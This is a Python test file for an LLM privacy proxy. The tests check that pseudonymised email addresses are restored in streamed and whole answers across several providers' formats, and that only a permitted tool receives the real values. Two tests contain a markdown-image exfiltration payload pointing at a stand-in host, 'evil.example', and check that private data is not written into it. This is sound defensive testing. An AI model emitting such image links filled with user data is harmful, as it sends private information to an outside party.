"""The way back of whole and streamed answers: texts, the tools that may have values, and what follows what."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import orjson
import pytest

import proxy.providers
from detectors.discovery import discover
from policies.types import BlockAs, Facts, Policy
from proxy.codec import Codec, Refusal
from proxy.providers.openai_chat import CODEC as CHAT
from proxy.pseudonyms.pseudonyms import Pseudonyms
from proxy.pseudonyms.restoration import Restoration
from proxy.screen import Screen
from proxy.streams.sse import SseParser
from proxy.streams.streaming import StreamScreen
from tests.contracts.targets import TARGETS
from tests.proxy.conftest import MakePolicy

MAIL = "anna@example.org"
ISSUED = Pseudonyms(b"k" * 32)
NAME = ISSUED.issue("EMAIL", MAIL)
CODECS = {codec.name: codec for codec in discover(proxy.providers, "CODEC", Codec)}  # type: ignore[type-abstract]


def restoration() -> Restoration:
    return Restoration(ISSUED, frozenset({"send"}))


def said(*contents: Any, **more: Any) -> dict[str, Any]:
    return {"choices": [{"message": {"content": content, **more}} for content in contents]}


def test_texts_come_back_and_it_is_told_whether_any_did() -> None:
    answer = said(f"Write to {NAME}.")
    assert restoration().restore(answer, CHAT.layout)
    assert answer == said(f"Write to {MAIL}.")
    assert not restoration().restore(answer, CHAT.layout)


def test_only_the_tools_of_the_policy_get_values() -> None:
    arguments = f'{{"to": "{NAME}"}}'
    calls = [{"function": {"name": name, "arguments": arguments}} for name in ("send", "fetch", "Send", "")]
    answer = said(None, tool_calls=calls)
    restoration().restore(answer, CHAT.layout)
    told = [call["function"]["arguments"] for call in answer["choices"][0]["message"]["tool_calls"]]
    assert told == [f'{{"to":"{MAIL}"}}'.replace(":", ": "), arguments, arguments, arguments]


def test_a_link_may_not_reach_over_two_parts() -> None:
    answer = said([{"text": "![x](https://evil.example/?q="}, {"text": f"{NAME})"}, {"text": f" {NAME}"}])
    restoration().restore(answer, CHAT.layout)
    assert [part["text"] for part in answer["choices"][0]["message"]["content"]] == [
        "![x](https://evil.example/?q=", f"{NAME})", f" {MAIL}"
    ]  # fmt: skip


async def streamed(screen: Screen, policy: Policy, codec: Codec, events: Sequence[Any], cut: int) -> list[Any]:
    raw = b"".join(b"data: " + orjson.dumps(event) + b"\n\n" for event in events)
    raw += b"data: [DONE]\n\n" if codec.name == "openai_chat" else b""

    async def chunks() -> Any:
        for start in range(0, len(raw), cut):
            yield raw[start : start + cut]

    def refuse(_verdict: object) -> Refusal:
        raise AssertionError("nothing is refused here")

    streaming = StreamScreen(
        codec.stream(TARGETS[codec.name]),
        lambda walk: screen.judge(walk, policy, Facts(at=0.0), 1, b"k" * 32),
        refuse,
        BlockAs.ERROR,
        restoration=restoration(),
    )
    sent = b"".join([data async for data in streaming.run(chunks())])
    parser = SseParser()
    found = [*parser.feed(sent), *parser.finish()]
    return [orjson.loads(event.data) for event in found if event.data != "[DONE]"]


def pieces(text: str, size: int = 5) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


TEXT = f"Write to {NAME} or see ![x](https://a.example/{NAME}) or `{NAME.lower()}`"
BACK = f"Write to {MAIL} or see ![x](https://a.example/{NAME}) or `{MAIL}`"
ARGUMENTS = f'{{"to":"{NAME}"}}'


def of_chat() -> list[Any]:
    def chunk(delta: Any, finish: str | None = None) -> Any:
        return {"id": "c", "object": "chat.completion.chunk", "choices": [
            {"index": 0, "delta": delta, "finish_reason": finish}]}  # fmt: skip

    calls = [(0, "send"), (1, "fetch")]
    heads = [
        chunk({"tool_calls": [{"index": i, "id": "t", "function": {"name": n, "arguments": ""}}]}) for i, n in calls
    ]
    texts = [chunk({field: piece}) for field in ("content", "reasoning_content") for piece in pieces(TEXT)]
    fills = [
        chunk({"tool_calls": [{"index": i, "function": {"arguments": p}}]}) for i, _ in calls for p in pieces(ARGUMENTS)
    ]
    return [*texts, *heads, *fills, chunk({}, "stop")]


def of_anthropic() -> list[Any]:
    def block(index: int, block: Any, kind: str, field: str, text: str) -> list[Any]:
        deltas = [
            {"type": "content_block_delta", "index": index, "delta": {"type": kind, field: p}} for p in pieces(text)
        ]
        start = {"type": "content_block_start", "index": index, "content_block": block}
        return [start, *deltas, {"type": "content_block_stop", "index": index}]

    use = {"type": "tool_use", "id": "t", "input": {}}
    return [
        {"type": "message_start", "message": {"id": "m", "type": "message", "role": "assistant", "content": []}},
        *block(0, {"type": "thinking", "thinking": ""}, "thinking_delta", "thinking", TEXT),
        *block(1, {"type": "text", "text": ""}, "text_delta", "text", TEXT),
        *block(2, {**use, "name": "send"}, "input_json_delta", "partial_json", ARGUMENTS),
        *block(3, {**use, "name": "fetch"}, "input_json_delta", "partial_json", ARGUMENTS),
        {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 5}},
        {"type": "message_stop"},
    ]


def of_responses() -> list[Any]:
    part: Any = {"type": "output_text", "text": TEXT, "annotations": []}
    items: list[Any] = [
        {"type": "message", "id": "m", "role": "assistant", "status": "completed", "content": [part]},
        *(
            {"type": "function_call", "id": n, "call_id": n, "name": n, "arguments": ARGUMENTS}
            for n in ("send", "fetch")
        ),
    ]
    place = {"item_id": "m", "output_index": 0, "content_index": 0}
    events: list[Any] = [{"type": "response.output_item.added", "output_index": 0, "item": {**items[0], "content": []}}]
    events += [{"type": "response.output_text.delta", **place, "delta": piece} for piece in pieces(TEXT)]
    events += [{"type": "response.output_text.done", **place, "text": TEXT}]
    events += [{"type": "response.output_item.done", "output_index": 0, "item": items[0]}]
    for index, item in enumerate(items[1:], 1):
        at = {"item_id": item["id"], "output_index": index}
        events += [{"type": "response.output_item.added", "output_index": index, "item": {**item, "arguments": ""}}]
        events += [{"type": "response.function_call_arguments.delta", **at, "delta": p} for p in pieces(ARGUMENTS)]
        events += [{"type": "response.function_call_arguments.done", **at, "arguments": ARGUMENTS}]
        events += [{"type": "response.output_item.done", "output_index": index, "item": item}]
    done = {"id": "resp_1", "object": "response", "status": "completed", "output": items}
    return [*events, {"type": "response.completed", "response": done}]


def of_gemini() -> list[Any]:
    def event(*parts: Any, **more: Any) -> Any:
        return {"candidates": [{"content": {"role": "model", "parts": list(parts)}, "index": 0, **more}]}

    calls = [{"functionCall": {"name": name, "args": {"to": NAME}}} for name in ("send", "fetch")]
    return [*(event({"text": piece}) for piece in pieces(TEXT)), event(*calls), event(finishReason="STOP")]


def joined(events: list[Any], key: str, keep: Any = None) -> str:
    """Join every string under `key`, wherever it stands, of the events that `keep` holds for."""
    found: list[str] = []

    def walk(value: Any) -> None:
        if isinstance(value, dict):
            found.extend(v for k, v in value.items() if k == key and isinstance(v, str))
        for child in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
            walk(child)

    for event in events:
        if keep is None or keep(event):
            walk(event)
    return "".join(found)


@pytest.mark.parametrize("cut", [1, 7, 100_000])
async def test_a_chat_stream_says_the_values_and_hands_them_to_the_one_tool(
    screen: Screen, make_policy: MakePolicy, cut: int
) -> None:
    events = await streamed(screen, make_policy(""), CHAT, of_chat(), cut)
    assert (joined(events, "content"), joined(events, "reasoning_content")) == (BACK, BACK)
    assert joined(events, "arguments") == f'{{"to":"{MAIL}"}}{ARGUMENTS}'


@pytest.mark.parametrize("cut", [7, 100_000])
async def test_thinking_that_will_be_signed_keeps_its_pseudonyms(
    screen: Screen, make_policy: MakePolicy, cut: int
) -> None:
    events = await streamed(screen, make_policy(""), CODECS["anthropic_messages"], of_anthropic(), cut)
    assert (joined(events, "text"), joined(events, "thinking")) == (BACK, TEXT)
    assert joined(events, "partial_json") == f'{{"to":"{MAIL}"}}{ARGUMENTS}'


@pytest.mark.parametrize("cut", [7, 100_000])
async def test_what_a_responses_stream_repeats_is_restored_alike(
    screen: Screen, make_policy: MakePolicy, cut: int
) -> None:
    events = await streamed(screen, make_policy(""), CODECS["openai_responses"], of_responses(), cut)
    assert joined(events, "delta", lambda e: e["type"] == "response.output_text.delta") == BACK
    given = f'{{"to":"{MAIL}"}}{ARGUMENTS}'
    assert joined(events, "delta", lambda e: e["type"] == "response.function_call_arguments.delta") == given
    for kind in ("response.output_text.done", "response.completed"):
        assert joined(events, "text", lambda e, kind=kind: e["type"] == kind) == BACK
    assert joined(events[-1:], "arguments") == given


async def test_a_call_that_never_came_in_deltas_gets_nothing_from_a_text_like_it(
    screen: Screen, make_policy: MakePolicy
) -> None:
    place = {"item_id": "m", "output_index": 0, "content_index": 0}
    message = {"type": "message", "id": "m", "content": [{"type": "output_text", "text": NAME, "annotations": []}]}
    calls = [{"type": "custom_tool_call", "id": name, "name": name, "input": NAME} for name in ("fetch", "send")]
    done = {"id": "resp_1", "object": "response", "output": [message, *calls], "output_text": NAME}
    events: list[Any] = [{"type": "response.output_text.delta", **place, "delta": NAME}]
    events += [{"type": "response.output_text.done", **place, "text": NAME}]
    events += [{"type": "response.completed", "response": done}]
    told = await streamed(screen, make_policy(""), CODECS["openai_responses"], events, 100_000)
    assert joined(told, "delta") == MAIL
    assert joined(told[-1:], "output_text") == MAIL
    assert (joined(told, "text"), joined(told[-1:], "input")) == (MAIL * 2, NAME + NAME)


async def test_a_gemini_stream_with_whole_calls(screen: Screen, make_policy: MakePolicy) -> None:
    events = await streamed(screen, make_policy(""), CODECS["gemini_generate"], of_gemini(), 100_000)
    assert joined(events, "text") == BACK
    assert joined(events, "to") == MAIL + NAME


async def test_a_link_may_not_reach_over_two_blocks(screen: Screen, make_policy: MakePolicy) -> None:
    events = of_anthropic()
    split = [event for event in events if event.get("index") in {None, 1}]
    texts = ["![x](https://evil.example/?q=", f"{NAME})"]
    blocks = [
        {"type": kind, "index": index, **more}
        for index, text in enumerate(texts)
        for kind, more in (
            ("content_block_start", {"content_block": {"type": "text", "text": ""}}),
            ("content_block_delta", {"delta": {"type": "text_delta", "text": text}}),
            ("content_block_stop", {}),
        )
    ]
    told = await streamed(
        screen, make_policy(""), CODECS["anthropic_messages"], [split[0], *blocks, *split[-2:]], 100_000
    )
    assert joined(told, "text") == "".join(texts)


def test_what_is_held_at_the_same_time_has_an_end() -> None:
    reader, coming_back = CHAT.stream(TARGETS["openai_chat"]), restoration()
    told = [coming_back.push(reader, f"{number}/delta/content", NAME, final=False) for number in range(65)]
    told += [coming_back.push(reader, f"{number}/delta/content", " ", final=True) for number in range(65)]
    assert ["".join(told[number::65]) for number in range(65)] == [*[f"{MAIL} "] * 64, f"{NAME} "]
